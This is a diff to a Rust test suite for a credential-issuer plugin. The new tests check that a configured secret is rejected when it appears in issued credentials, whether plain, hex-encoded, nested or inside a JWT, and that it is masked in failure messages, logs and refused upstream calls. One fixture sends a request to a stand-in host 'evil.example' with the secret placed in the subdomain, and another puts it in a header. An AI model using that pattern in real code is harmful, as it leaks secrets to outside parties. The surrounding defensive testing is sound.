@@ -10,7 +10,7 @@ use serde_json::{Value, json};
 
 use crate::harness::{
     NOW, ScriptedUpstreams, call_context, configured, contract_breach, issue, load, load_with, options,
-    parrot, reply,
+    parrot, reply, take_log,
 };
 
 /// An issuer that gives this answer to every call.
@@ -155,4 +155,80 @@ async fn an_upstream_failure_fails_the_request() {
     assert!(matches!(issue(&*issuer).await, Err(IssuerFailure::UpstreamTimedOut(0))));
     // The script has no more replies, so the upstream never answers: the host stops waiting at the deadline.
     assert!(matches!(issue(&*issuer).await, Err(IssuerFailure::UpstreamTimedOut(10_000))));
+}
+
+const CANARY: &str = "canary-7f3a9c21";
+
+/// An issuer of the parrot that has a secret and gives these answers.
+fn with_secret(settings: Value) -> (PluginSet, Arc<dyn Issuer>) {
+    let set = load(parrot()).unwrap();
+    let mut settings = settings;
+    settings["secret"] = json!(CANARY);
+    let issuer = configured(&set, "parrot_jwt", settings);
+    (set, issuer)
+}
+
+#[tokio::test]
+async fn a_credential_that_contains_a_secret_breaks_the_contract() {
+    let jwt = |claims: Value| {
+        use base64::Engine as _;
+        let encode = |json: Value| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(json.to_string());
+        json!({"jwt": format!("{}.{}.c2ln", encode(json!({"alg": "HS256"})), encode(claims))})
+    };
+    let hex = hex::encode(CANARY);
+    for (credential, accepted) in [
+        (json!({"text": CANARY}), false),
+        (json!({"text": "canary-7f3a9c2"}), true),
+        (json!({"text": hex}), false),
+        (json!({"object": {"a": [CANARY]}}), false),
+        (json!({"object": {CANARY: 1}}), false),
+        (json!({"object": {"a": ["canary"]}}), true),
+        (jwt(json!({"x": CANARY})), false),
+        (jwt(json!({"x": "canary"})), true),
+    ] {
+        let answer =
+            json!({"kind": "issued", "credential": credential, "issued_at": NOW, "expires_at": NOW + 60});
+        let (_set, issuer) = with_secret(json!({"answers": [answer.to_string()]}));
+        if accepted {
+            assert!(issue(&*issuer).await.is_ok(), "{credential}");
+        } else {
+            assert_eq!(
+                contract_breach(&*issuer).await,
+                "the credential contains the setting `/secret`",
+                "{credential}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn no_text_of_a_failure_or_log_line_shows_a_secret() {
+    let encoded = hex::encode(CANARY);
+    for secret in [CANARY, &encoded] {
+        let failure = json!({
+            "code": "upstream_refused", "message": format!("<{secret}>"), "pointer": format!("/{secret}"),
+            "upstream_code": secret, "logs": [{"level": "info", "message": format!("log {secret}")}],
+        });
+        let (_set, issuer) = with_secret(json!({"failure": failure.to_string()}));
+        let _ = take_log();
+        let Err(IssuerFailure::Failed(failure)) = issue(&*issuer).await else { panic!("no failure") };
+        assert_eq!(failure.message, "<[secret]>");
+        assert_eq!(failure.pointer.as_deref(), Some("/[secret]"));
+        assert_eq!(failure.upstream_code, None);
+        let log = take_log();
+        assert!(log.contains("log [secret]") && !log.contains(secret), "{log}");
+    }
+}
+
+#[tokio::test]
+async fn a_secret_in_a_refused_upstream_call_is_masked() {
+    let call = |request: Value| json!({"kind": "call", "request": request}).to_string();
+    for request in [
+        json!({"method": "GET", "url": format!("https://{CANARY}.evil.example/"), "body": ""}),
+        json!({"method": "GET", "url": "https://login.example.com/", "body": "", "headers": [[CANARY, "x"]]}),
+    ] {
+        let (_set, issuer) = with_secret(json!({"answers": [call(request)]}));
+        let reason = contract_breach(&*issuer).await;
+        assert!(reason.contains("[secret]") && !reason.contains(CANARY), "{reason}");
+    }
 }
